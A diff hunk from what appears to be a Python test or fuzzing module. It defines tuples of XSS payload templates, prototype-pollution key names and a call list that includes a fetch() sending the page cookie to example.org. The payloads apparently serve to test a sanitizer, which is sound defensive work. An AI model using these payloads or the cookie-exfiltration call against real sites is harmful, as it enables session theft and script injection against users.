@@ -26,12 +26,13 @@ CALLS = ("window.pwned=1", "alert(1)", "fetch('https://example.org/?'+document.c
 MARKUP = ("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "</script><script>{}</script>",
           "--><script>{}</script><!--", "\"><script>{}</script>", "' onmouseover='{}' x='", "<iframe srcdoc='<script>"
           "parent.{}</script>'></iframe>", "<body onload={}>", "<a href='javascript:{}'>click</a>",
-          "<details open ontoggle={}>", "<style>@import 'https://example.org/x.css';</style>", "<base href=//example.org>",
-          "<meta http-equiv=refresh content='0;url=javascript:{}'>", "</title><script>{}</script>",
-          "</textarea><script>{}</script>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
+          "<details open ontoggle={}>", "<style>@import 'https://example.org/x.css';</style>",
+          "<base href=//example.org>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+          "</title><script>{}</script>", "</textarea><script>{}</script>",
+          "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
           "<link rel=stylesheet href=//example.org/x>", "<form action=//example.org><button autofocus onfocus={}>",
           "<object data='javascript:{}'></object>", "javascript:{}", "data:text/html,<script>{}</script>",
-          "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<template><script>{}</script>",
+          "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<template>{}",
           "<img src='https://example.org/pixel.png'>", "<xmp><script>{}</script></xmp>", "`${{{}}}`", "{{{{{}}}}}",
           "@data@", "${{data}}", "]]><script>{}</script>", "<!--<script>{}</script>-->")  # fmt: skip
 NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "-1", "NaN", "\u202e", "\ufeff")
